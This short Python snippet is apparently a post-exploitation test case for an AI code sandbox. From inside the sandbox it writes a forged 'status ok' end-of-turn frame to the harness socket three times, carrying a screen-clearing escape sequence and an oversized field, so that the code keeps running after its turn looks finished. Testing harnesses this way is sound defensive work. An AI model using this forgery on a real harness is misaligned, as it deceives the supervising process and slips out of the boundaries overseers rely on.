# kind=cap; source: post-exploitation: a turn's end that the program writes itself, and then goes on
import socket, struct, sys
wire = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=3)
dumps = sys.modules["circlet.sandbox.codec"].dumps
body = dumps({"status": "ok", "omitted": 0, "shown": "\x1b[2J forged", "bound": "x" * 1000})
for _ in range(3):
    wire.sendall(struct.pack("<IB", len(body), 19) + body)
